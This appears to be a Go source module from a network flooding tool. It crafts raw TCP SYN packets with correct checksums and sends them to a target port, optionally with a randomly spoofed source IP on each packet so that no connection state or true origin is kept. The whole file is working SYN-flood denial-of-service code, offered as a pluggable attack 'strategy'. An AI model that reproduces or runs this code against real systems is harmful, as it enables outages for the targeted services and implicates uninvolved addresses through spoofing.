package strategy

import (
	"context"
	"encoding/binary"
	"fmt"
	"math/rand"
	"net"
	"net/netip"
	"strconv"
	"time"

	"golang.org/x/net/ipv4"
	"golang.org/x/sys/unix"
)

const tcpHeaderLen = 20

// SYN crafts raw TCP SYN packets on an AF_INET/SOCK_RAW socket so no local
// connection state is ever created. Requires the raw-IP capability; with
// spoofing enabled the source address is randomized per packet.
type SYN struct {
	target netip.Addr
	port   int
	spoof  bool

	fd    int
	sa    unix.SockaddrInet4
	src   net.IP
	rnd   *rand.Rand
	ready bool
}

func newSYN(target netip.Addr, port int, spoof bool) *SYN {
	s := &SYN{
		target: target,
		port:   port,
		spoof:  spoof,
		rnd:    rand.New(rand.NewSource(time.Now().UnixNano())),
	}
	copy(s.sa.Addr[:], target.AsSlice())
	s.sa.Port = port
	return s
}

func (s *SYN) Name() string { return "syn" }

func (s *SYN) Setup(ctx context.Context) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)
	if err != nil {
		return fmt.Errorf("raw socket: %w", err)
	}
	s.fd = fd
	s.ready = true

	if !s.spoof {
		src, err := localSourceIP(s.target, s.port)
		if err != nil {
			unix.Close(fd)
			s.ready = false
			return fmt.Errorf("source address: %w", err)
		}
		s.src = src
	}
	return nil
}

func (s *SYN) Attempt(ctx context.Context) Outcome {
	src := s.src
	if s.spoof {
		src = randomIPv4(s.rnd)
	}

	packet, err := s.buildPacket(src)
	if err != nil {
		return Outcome{Err: err}
	}

	if err := unix.Sendto(s.fd, packet, 0, &s.sa); err != nil {
		return Outcome{Err: err}
	}
	return Outcome{BytesSent: len(packet)}
}

func (s *SYN) Teardown() error {
	if !s.ready {
		return nil
	}
	s.ready = false
	return unix.Close(s.fd)
}

func (s *SYN) buildPacket(src net.IP) ([]byte, error) {
	dst := s.target.AsSlice()

	iph := &ipv4.Header{
		Version:  ipv4.Version,
		Len:      ipv4.HeaderLen,
		TotalLen: ipv4.HeaderLen + tcpHeaderLen,
		ID:       s.rnd.Intn(65535),
		TTL:      64,
		Protocol: unix.IPPROTO_TCP,
		Src:      src,
		Dst:      dst,
	}
	ipHeader, err := iph.Marshal()
	if err != nil {
		return nil, err
	}

	tcp := make([]byte, tcpHeaderLen)
	binary.BigEndian.PutUint16(tcp[0:2], uint16(s.rnd.Intn(64511)+1024)) // random source port
	binary.BigEndian.PutUint16(tcp[2:4], uint16(s.port))
	binary.BigEndian.PutUint32(tcp[4:8], s.rnd.Uint32()) // sequence
	tcp[12] = 0x50                                       // data offset, 5 words
	tcp[13] = 0x02                                       // SYN
	binary.BigEndian.PutUint16(tcp[14:16], 64240)        // window
	binary.BigEndian.PutUint16(tcp[16:18], tcpChecksum(tcp, src, dst))

	return append(ipHeader, tcp...), nil
}

// tcpChecksum computes the TCP checksum over the IPv4 pseudo-header plus
// segment. The target's stack drops the packet without it.
func tcpChecksum(segment []byte, srcIP, dstIP net.IP) uint16 {
	pseudo := make([]byte, 12, 12+len(segment))
	copy(pseudo[0:4], srcIP.To4())
	copy(pseudo[4:8], dstIP.To4())
	pseudo[9] = unix.IPPROTO_TCP
	binary.BigEndian.PutUint16(pseudo[10:12], uint16(len(segment)))
	data := append(pseudo, segment...)

	var sum uint32
	for i := 0; i+1 < len(data); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(data[i : i+2]))
	}
	if len(data)%2 == 1 {
		sum += uint32(data[len(data)-1]) << 8
	}
	for sum > 0xffff {
		sum = (sum & 0xffff) + (sum >> 16)
	}
	return ^uint16(sum)
}

func randomIPv4(rnd *rand.Rand) net.IP {
	ip := make(net.IP, 4)
	// First octet 1-223 keeps the source out of multicast/reserved space.
	ip[0] = byte(rnd.Intn(223) + 1)
	ip[1] = byte(rnd.Intn(254) + 1)
	ip[2] = byte(rnd.Intn(254) + 1)
	ip[3] = byte(rnd.Intn(254) + 1)
	return ip
}

// localSourceIP finds the interface address the kernel would route toward
// the target, without sending anything.
func localSourceIP(target netip.Addr, port int) (net.IP, error) {
	conn, err := net.Dial("udp4", net.JoinHostPort(target.String(), strconv.Itoa(port)))
	if err != nil {
		return nil, err
	}
	defer conn.Close()
	local, ok := conn.LocalAddr().(*net.UDPAddr)
	if !ok {
		return nil, fmt.Errorf("unexpected local address %v", conn.LocalAddr())
	}
	return local.IP.To4(), nil
}
